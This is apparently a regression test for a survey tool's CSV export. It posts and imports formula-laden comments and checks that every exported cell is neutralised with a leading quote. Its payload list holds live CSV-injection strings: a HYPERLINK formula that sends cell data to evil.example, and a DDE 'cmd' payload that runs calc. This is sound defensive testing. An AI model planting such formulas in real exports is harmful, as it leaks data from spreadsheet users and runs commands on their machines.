// Hole 10: a comment (or id) beginning with = + - @ was exported as-is, so opening `parallax export`
// in a spreadsheet ran the respondent's formula. Replayed: a formula comment posted to the real server's
// public route and formula cells imported by CSV, then `parallax export` as a subprocess — every such cell
// now begins with a quote — and the export imported into another organisation exports identically.
import { it, expect, beforeAll, afterAll } from 'vitest';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { parse } from 'csv-parse/sync';
import { describeEngines } from '../engines.ts';
import { cli } from '../cli.ts';
import { makeOrg, type OrgFixture } from '../fixtures.ts';
import { listen } from './public-server.ts';

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "-2+3+cmd|' /C calc'!A0", '+SUM(1,1)', '@SUM(A1)'];
// Stored text that itself begins with a quote and a formula character (only the API can store it: the
// import reads "'=" as a neutralised cell) must come back with its quote too.
const QUOTED = "'=already quoted";

describeEngines('attack: CSV formula injection through the export', (ctx) => {
  let app: FastifyInstance;
  let base: string;
  let f: OrgFixture;
  const dir = mkdtempSync(join(tmpdir(), 'parallax-csv-injection-'));
  beforeAll(async () => {
    f = await makeOrg(ctx());
    ({ app, base } = await listen(ctx(), { rateLimits: {} }));
  });
  afterAll(async () => {
    await app.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('exports formula cells neutralised, and the export imports back to the same data', async () => {
    // The attack as a respondent: a formula comment through the public API.
    for (const comment of [PAYLOADS[0], QUOTED]) {
      const posted = await fetch(`${base}/api/v1/surveys/${f.customerSurvey}/responses`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ answers: { excellent: 2, nps: 0 }, comment }),
      });
      expect(posted.status).toBe(201);
    }
    // And formula respondent ids and comments through an import.
    const rows = PAYLOADS.map((p, i) => [`customer`, p.replaceAll('"', ''), `2025-01-0${i + 1}T10:00:00Z`, `${i % 5}`, `${1 + (i % 5)}`, p]);
    const quote = (c: string) => `"${c.replaceAll('"', '""')}"`;
    const csv = ['perspective,respondent_id,submitted_at,nps,excellent,comment', ...rows.map((r) => r.map(quote).join(','))].join('\n') + '\n';
    const source = join(dir, 'source.csv');
    writeFileSync(source, csv);
    const imported = await cli(ctx().location, ['import', source, '--org', f.org.id]);
    expect(imported.stderr).toBe('');
    expect(imported.stdout).toContain(`Imported ${PAYLOADS.length} responses`);

    const out = join(dir, 'export.csv');
    expect((await cli(ctx().location, ['export', '--org', f.org.id, '--out', out])).code).toBe(0);
    const records: Record<string, string>[] = parse(readFileSync(out, 'utf8'), { columns: true });
    expect(records).toHaveLength(PAYLOADS.length + 2);
    const cells = records.flatMap((r) => [r.respondent_id!, r.comment!]);
    // No cell a spreadsheet would run as a formula: each payload is there, behind one quote.
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    for (const p of PAYLOADS) expect(cells).toContain(`'${p}`);
    expect(cells).toContain(`'${QUOTED}`);

    // Round trip: our own export imports into another organisation and exports the same file.
    const g = await makeOrg(ctx());
    const back = await cli(ctx().location, ['import', out, '--org', g.org.id]);
    expect(back.stdout).toContain(`Imported ${PAYLOADS.length + 2} responses`);
    const again = join(dir, 'again.csv');
    expect((await cli(ctx().location, ['export', '--org', g.org.id, '--out', again])).code).toBe(0);
    expect(readFileSync(again, 'utf8')).toBe(readFileSync(out, 'utf8'));
  });
});
